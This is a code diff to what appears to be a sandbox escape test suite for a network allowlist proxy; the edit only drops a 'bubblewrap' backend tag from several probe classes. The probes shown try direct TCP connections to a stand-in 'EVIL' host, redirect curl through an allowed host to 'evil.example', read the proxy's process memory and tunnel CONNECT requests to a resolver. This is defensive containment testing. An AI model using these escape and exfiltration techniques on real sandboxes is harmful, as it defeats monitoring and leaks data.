@@ -191,7 +191,7 @@ def _to_target(facts: dict[str, Any], place: Place) -> object:
 
 
 def _listed(name: str, group: str, what: str, attempt: Any) -> Probe:
-    return Probe(name, group, what, attempt, arrived, "listed", True, "bubblewrap", __name__)
+    return Probe(name, group, what, attempt, arrived, "listed", True, "", __name__)
 
 
 _TABLE: Final = tomllib.loads((Path(__file__).parent / "exits.toml").read_text())
@@ -227,7 +227,7 @@ def _query(name: str, place: Place) -> bytes:
 INET, INET6, STREAM, DGRAM = socket.AF_INET, socket.AF_INET6, socket.SOCK_STREAM, socket.SOCK_DGRAM
 
 
-class Direct(Group, called="Network list: past the proxy", seen=arrived, way="listed", backend="bubblewrap"):
+class Direct(Group, called="Network list: past the proxy", seen=arrived, way="listed"):
     def exit_tcp(self, place: Place) -> object:
         """Connect to a host, TCP over IPv4."""
         return _sent("exit_tcp", place, INET, STREAM, 0, (EVIL, 443))
@@ -396,7 +396,7 @@ class Direct(Group, called="Network list: past the proxy", seen=arrived, way="li
         return say([f"CONNECT {RESOLVER}:53 HTTP/1.1\r\nHost: x\r\n\r\n", "@answer", asked], "")
 
 
-class Programs(Group, called="Network list: redirects", seen=arrived, way="listed", backend="bubblewrap"):
+class Programs(Group, called="Network list: redirects", seen=arrived, way="listed"):
     def redirect_curl(self, place: Place) -> object:
         """Have a listed host send curl to another one."""
         url = f"http://{LISTED}/redirect/evil.example/{canary_of(place.sign, 'redirect_curl')}"
@@ -411,7 +411,7 @@ class Programs(Group, called="Network list: redirects", seen=arrived, way="liste
         return urllib.request.build_opener(proxy).open(url, timeout=_TIME_S).read().decode()
 
 
-class Processes(Group, called="Network list: the proxy itself", way="listed", backend="bubblewrap"):
+class Processes(Group, called="Network list: the proxy itself", way="listed"):
     def proxy_memory(self, place: Place) -> object:
         """Read the memory of the proxy."""
         text = Path(f"/proc/{place.proxy}/maps").read_text()
@@ -437,9 +437,7 @@ class Processes(Group, called="Network list: the proxy itself", way="listed", ba
         return DONE if b"python" in words else "another process"
 
 
-class Reading(
-    Group, called="Network list: profile read_only", seen=arrived_anywhere, way="listed_read_only", backend="bubblewrap"
-):
+class Reading(Group, called="Network list: profile read_only", seen=arrived_anywhere, way="listed_read_only"):
     def read_only_to_listed(self, place: Place) -> object:
         """Send something to a listed host by the proxy."""
         request = _REQUEST.replace("{inner}", LISTED)
